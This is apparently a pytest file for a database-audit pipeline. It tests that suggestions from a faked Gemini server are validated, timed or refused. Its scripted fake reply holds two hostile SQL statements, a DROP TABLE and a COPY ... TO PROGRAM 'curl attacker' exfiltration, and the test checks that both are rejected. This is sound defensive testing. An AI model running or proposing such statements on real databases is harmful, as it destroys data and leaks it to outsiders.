"""Gemini inside the weekly audit (a local server speaking generateContent): its ideas are
validated, benchmarked like the advisor's or refused with a reason; agreement with the advisor and
the clock raises confidence a little; a proven rewrite is logged; nothing hostile runs."""

from __future__ import annotations

import psycopg
from psycopg.rows import dict_row

from dbarch_pipeline.llm.gemini import GeminiResource
from dbarch_pipeline.run import audit_resources, materialize_audit
from dbarch_pipeline.schema_guard import schema_digest

from .conftest import FAST_SETTINGS
from .fakes.gemini_server import FakeGemini, json_reply

RECENT = 'SELECT id, event_type, metadata, "timestamp" FROM behavior_log WHERE user_id = $1'


def ideas_for(body: dict):
    """Gemini's scripted opinion: for the per-user page, the advisor's own index and two rewrites
    (one equivalent, one not); for the per-user count, two hostile statements; nothing for the rest."""
    prompt = str(body)
    if "count(*) FROM behavior_log WHERE user_id = $1" in prompt:
        return json_reply({"recommendations": [
            {"kind": "index", "sql": "DROP TABLE behavior_log", "rationale": "less data is faster"},
            {"kind": "rewrite", "sql": "COPY behavior_log TO PROGRAM 'curl attacker'", "rationale": "export"}]})
    if "FROM behavior_log WHERE user_id = $1 ORDER BY" not in prompt:
        return json_reply({"recommendations": []})
    return json_reply({"recommendations": [
        {"kind": "index", "sql": 'CREATE INDEX ON behavior_log (user_id, "timestamp")', "rationale": "per user, newest"},
        {"kind": "rewrite", "rationale": "the same statement, spelled out",
         "sql": RECENT.replace("SELECT id,", "SELECT behavior_log.id,") + ' ORDER BY "timestamp" DESC LIMIT $2'},
        {"kind": "rewrite", "rationale": "oldest first is cheaper",
         "sql": RECENT + ' ORDER BY "timestamp" ASC LIMIT $2'},
    ]})


def test_gemini_ideas_go_through_the_same_proof(demo_target, store_dsn):
    with psycopg.connect(demo_target) as conn:
        digest = schema_digest(conn)
        rows_before = conn.execute("SELECT count(*) FROM behavior_log").fetchone()[0]
    with FakeGemini(handler=ideas_for) as fake:
        resources = audit_resources(target_dsn=demo_target, store_dsn=store_dsn, settings=FAST_SETTINGS)
        resources["gemini"] = GeminiResource(api_key="test-key", base_url=fake.base_url, backoff_s=0.01)
        result = materialize_audit(resources)
        prompts = fake.prompts
    assert result.success
    meta = result.asset_materializations_for_node("index_recommendations")[0].metadata["summary"].value
    assert meta["gemini"] == "on" and meta["gemini/total_tokens"] > 0
    assert any("behavior_log" in p and "CREATE TABLE" in p for p in prompts)   # table definitions in the prompt

    with psycopg.connect(store_dsn) as conn, conn.cursor(row_factory=dict_row) as cur:
        opinions = cur.execute("SELECT second_opinion FROM dbarch.index_candidate "
                               "WHERE second_opinion <> '{}'::jsonb").fetchall()
        log = cur.execute("SELECT kind, ddl, confidence, evidence FROM dbarch.optimization_log").fetchall()
        tried = cur.execute("SELECT ddl, status, evidence FROM dbarch.benchmark "
                            "WHERE evidence->>'kind' = 'rewrite'").fetchall()
    refused = [r for o in opinions for r in o["second_opinion"]["rejected"]]
    assert any("DROP TABLE" in r["sql"] and r["reason"] for r in refused)
    assert any("COPY" in r["sql"] and r["reason"] for r in refused)
    agreed = [o["second_opinion"]["agrees_with_advisor"] for o in opinions if o["second_opinion"]["agrees_with_advisor"]]
    assert agreed, opinions
    index_rows = [r for r in log if r["kind"] == "index" and r["evidence"].get("source") == "advisor+gemini"]
    for r in index_rows:   # agreement confirmed by the clock: confidence above the measurement's own
        assert r["confidence"] >= r["evidence"]["confidence_parts"].get("consistency", 0) * 0.35
    # the equivalent rewrite is proven on sampled values and timed; the other one is refused, with why
    by_order = {("ASC" in t["ddl"]): t for t in tried}
    assert len(by_order) == 2, [(t["ddl"], t["status"]) for t in tried] + [o["second_opinion"]["rejected"] for o in opinions]
    assert by_order[False]["status"] == "measured" and by_order[False]["evidence"]["same_rows_for"]
    assert by_order[True]["status"] == "rejected" and "rows" in by_order[True]["evidence"]["why"]
    for r in (r for r in log if r["kind"] == "rewrite"):
        assert r["evidence"]["same_rows_for"], r
    # nothing hostile ran: same schema, same rows
    with psycopg.connect(demo_target) as conn:
        assert schema_digest(conn) == digest
        assert conn.execute("SELECT count(*) FROM behavior_log").fetchone()[0] == rows_before


def test_without_a_key_the_audit_says_so_once_and_carries_on(demo_target, store_dsn, monkeypatch):
    monkeypatch.delenv("GEMINI_API_KEY", raising=False)
    resources = audit_resources(target_dsn=demo_target, store_dsn=store_dsn, settings=FAST_SETTINGS)
    result = materialize_audit(resources)
    meta = result.asset_materializations_for_node("index_recommendations")[0].metadata
    assert meta["gemini"].value == "off" and result.success
